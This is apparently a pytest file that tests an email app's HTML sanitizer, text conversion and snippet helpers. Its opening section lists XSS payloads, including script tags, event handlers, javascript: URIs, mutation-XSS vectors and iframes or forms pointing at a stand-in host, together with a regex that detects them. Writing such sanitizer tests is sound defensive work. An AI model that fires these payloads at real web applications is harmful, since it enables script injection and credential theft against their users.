import random
import re

import pytest

from app.domain.html_safety import collapse_whitespace, html_to_text, make_snippet, sanitize_html

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://x.example/a.png" onerror="alert(1)">',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="  JaVaScRiPt:alert(1)">click</a>',
    '<a href="java&#x09;script:alert(1)">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object><embed src="x.swf">',
    '<div style="width: expression(alert(1))">x</div>',
    '<div style="background-image: url(javascript:alert(1))">x</div>',
    '<div style="background: u\\72 l(https://evil.example/t.gif)">x</div>',
    '<form action="https://evil.example/login"><input name="pw"><button>Go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css"><base href="https://evil.example/">',
    "<style>body { background: url(https://evil.example/t.gif) }</style>",
    '<body onload="alert(1)">text</body>',
    '<details open ontoggle="alert(1)">x</details>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
]
FORBIDDEN = re.compile(
    r"<script|<style|<iframe|<object|<embed|<svg|<form|<input|<button|<meta|<link|<base"
    r"|\son[a-z]+\s*=|javascript:|vbscript:|data:text|data:image/svg|expression\(|url\(",
    re.IGNORECASE,
)


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payloads_are_neutralized(payload):
    cleaned = sanitize_html(f"<p>before</p>{payload}<p>after</p>")
    assert not FORBIDDEN.search(cleaned), cleaned
    assert cleaned.startswith("<p>before</p>")


def test_script_and_style_content_is_removed_not_shown_as_text():
    cleaned = sanitize_html("<style>.x{color:red}</style><script>var secret=1</script><p>hi</p>")
    assert cleaned == "<p>hi</p>"


def test_full_documents_lose_head_and_title():
    cleaned = sanitize_html("<html><head><title>T</title></head><body><p>x</p></body></html>")
    assert cleaned == "<p>x</p>"


def test_basic_formatting_and_tables_survive():
    html = (
        '<table width="600" cellpadding="4"><tr><td bgcolor="#eeeeee" valign="top">'
        "<b>Bold</b> <i>it</i> <u>u</u><br><ul><li>one</li></ul></td></tr></table>"
    )
    cleaned = sanitize_html(html)
    for fragment in [
        '<table width="600" cellpadding="4">',
        '<td bgcolor="#eeeeee" valign="top">',
        "<b>Bold</b>",
        "<i>it</i>",
        "<br>",
        "<li>one</li>",
    ]:
        assert fragment in cleaned


def test_links_get_noopener_noreferrer_nofollow_and_a_new_tab():
    cleaned = sanitize_html('<a href="https://ok.example/?a=1&b=2" rel="opener">ok</a>')
    assert 'href="https://ok.example/?a=1&amp;b=2"' in cleaned
    assert 'rel="noopener noreferrer nofollow"' in cleaned
    assert 'target="_blank"' in cleaned
    assert 'rel="opener"' not in cleaned


def test_mailto_and_fragment_links_are_kept_but_relative_ones_dropped():
    cleaned = sanitize_html(
        '<a href="mailto:bob@example.com">m</a><a href="#top">t</a>'
        '<a href="//evil.example/x">p</a><a href="/path">r</a>'
    )
    assert 'href="mailto:bob@example.com"' in cleaned
    assert 'href="#top"' in cleaned
    assert "evil.example" not in cleaned and 'href="/path"' not in cleaned


def test_remote_images_are_kept_and_marked_for_blocking():
    cleaned = sanitize_html('<img src="https://cdn.example/logo.png" alt="Logo" width="10">')
    assert cleaned == (
        '<img src="https://cdn.example/logo.png" alt="Logo" width="10" data-remote-image="true">'
    )


def test_http_image_with_uppercase_scheme_is_marked_too():
    assert 'data-remote-image="true"' in sanitize_html('<IMG SRC="HTTP://cdn.example/a.png">')


def test_inline_and_embedded_images_are_not_marked_remote():
    cleaned = sanitize_html(
        '<img src="cid:logo@example.com"><img src="data:image/png;base64,iVBORw0KGgo=">'
    )
    assert 'src="cid:logo@example.com"' in cleaned
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in cleaned
    assert "data-remote-image" not in cleaned


def test_senders_cannot_set_or_fake_the_remote_image_marker():
    cleaned = sanitize_html(
        '<img data-remote-image="false" src="https://t.example/p.gif">'
        '<img data-remote-image="true" src="cid:x@y" alt="a &gt; b">'
    )
    assert cleaned.count("data-remote-image") == 1
    assert '<img src="https://t.example/p.gif" data-remote-image="true">' in cleaned


def test_inline_style_keeps_safe_declarations_only():
    cleaned = sanitize_html(
        '<p style="color: red; position: fixed; z-index: 999; font-family: Arial; '
        'background: url(https://t.example/x.gif); margin: 0 auto; color: rgb(1, 2, 3)">x</p>'
    )
    style = re.search(r'style="([^"]*)"', cleaned).group(1)
    assert "color:red" in style.replace(" ", "")
    assert "font-family" in style and "margin" in style and "rgb(1, 2, 3)" in style
    assert "position" not in style and "z-index" not in style and "url" not in style


def test_style_with_only_dangerous_declarations_is_removed_entirely():
    assert sanitize_html('<p style="position: absolute; top: 0">x</p>') == "<p>x</p>"


def test_empty_html_sanitizes_to_empty():
    assert sanitize_html("") == ""


def test_html_to_text_puts_blocks_on_lines_and_renders_links():
    html = (
        "<html><head><title>T</title><style>p{x:y}</style></head><body>"
        "<h1>Hello&nbsp;there</h1><p>First   para\nwith <b>bold</b> &amp; "
        '<a href="https://ex.com/x">a link</a> and <a href="https://ex.com">https://ex.com</a>.'
        "<br>Line two</p><ul><li>one</li><li>two</li></ul><div>Mail "
        '<a href="mailto:bob@x.org">bob@x.org</a> or <a href="mailto:bob@x.org">Bob</a></div>'
        "<script>var x = 1;</script></body></html>"
    )
    assert html_to_text(html) == (
        "Hello there\n\n"
        "First para with bold & a link <https://ex.com/x> and https://ex.com.\n"
        "Line two\n\n"
        "- one\n"
        "- two\n"
        "Mail bob@x.org or Bob <bob@x.org>"
    )


def test_html_to_text_quotes_blockquotes_and_keeps_preformatted_whitespace():
    text = html_to_text("<p>Reply</p><blockquote><p>quoted</p></blockquote><pre>  a\n    b</pre>")
    assert text == "Reply\n\n> quoted\n\n  a\n    b"


def test_html_to_text_ignores_javascript_links_and_tidies_whitespace():
    text = html_to_text('<div>  a   <a href="javascript:x()">b</a>  </div>\n\n\n<div>c</div>')
    assert text == "a b\nc"


def test_html_to_text_survives_broken_markup():
    assert html_to_text("<p>unclosed <b>bold <a href='https://x.example'>link") == (
        "unclosed bold link <https://x.example>"
    )


WHITESPACE = "".join(chr(i) for i in range(0x110000) if re.fullmatch(r"\s", chr(i)))


def test_whitespace_is_what_the_regex_takes_it_to_be():
    # collapse_whitespace relies on str.split() and the regex's \s agreeing on every character.
    assert WHITESPACE == "".join(chr(i) for i in range(0x110000) if chr(i).isspace())
    assert len(WHITESPACE) > 20  # not only ASCII: NBSP, NEL, U+2028, ideographic space ...


@pytest.mark.parametrize(
    "text", ["", " ", "a", " a ", "\r\n", "a\r\n\tb", "\xa0x\u3000\u3000y\x85", "x\u200by"]
)
def test_collapse_whitespace_is_the_regex_substitution(text):
    assert collapse_whitespace(text) == re.sub(r"\s+", " ", text)


def test_collapse_whitespace_agrees_with_the_regex_on_random_text():
    rnd = random.Random(5)
    alphabet = WHITESPACE + "ab\u200b\u00e9-"
    for _ in range(20000):
        text = "".join(rnd.choice(alphabet) for _ in range(rnd.randrange(0, 9)))
        assert collapse_whitespace(text) == re.sub(r"\s+", " ", text), repr(text)


def test_snippet_drops_quoted_reply_and_attribution():
    text = (
        "Thanks, Tuesday works.\n\n"
        "On Mon, 1 Jan 2024 at 10:00, Bob <bob@example.com> wrote:\n"
        "> Does Tuesday work?\n> Bob"
    )
    assert make_snippet(text) == "Thanks, Tuesday works."


def test_snippet_drops_wrapped_attribution_and_forwarded_history():
    text = (
        "See below.\nOn Mon, 1 Jan 2024 at 10:00, Bob Example <bob@\nexample.com> wrote:\n> old\n"
    )
    assert make_snippet(text) == "See below."
    assert make_snippet("FYI\n-----Original Message-----\nFrom: x") == "FYI"


def test_snippet_keeps_quoted_text_when_there_is_nothing_else():
    assert make_snippet("> only\n> quoted") == "> only > quoted"


def test_snippet_collapses_whitespace():
    assert make_snippet("  Hello\n\n\tworld   again ") == "Hello world again"


def test_snippet_cuts_at_a_word_boundary_with_an_ellipsis():
    text = " ".join(f"word{i}" for i in range(100))
    snippet = make_snippet(text, 50)
    assert snippet.endswith("…") and len(snippet) <= 50
    body = snippet[:-1]
    assert text.startswith(body) and text[len(body)] == " "


def test_snippet_of_one_long_word_is_cut_hard():
    assert make_snippet("x" * 300, 20) == "x" * 19 + "…"


def test_short_snippet_is_unchanged():
    assert make_snippet("Short note", 200) == "Short note"


def test_sanitized_html_is_not_sanitized_again():
    """A body is sanitized once where a message is put together; build_mime and the stored
    body get the same object back instead of a second nh3 pass."""
    from app.domain.html_safety import SafeHtml

    once = sanitize_html('<p onclick="x()">hi<script>alert(1)</script></p>')
    assert isinstance(once, SafeHtml) and once == "<p>hi</p>"
    assert sanitize_html(once) is once
    # a plain string with the same text is still sanitized (the type, not the text, is trusted)
    assert sanitize_html("<p>hi</p><script>1</script>") == "<p>hi</p>"
    assert sanitize_html("") == ""
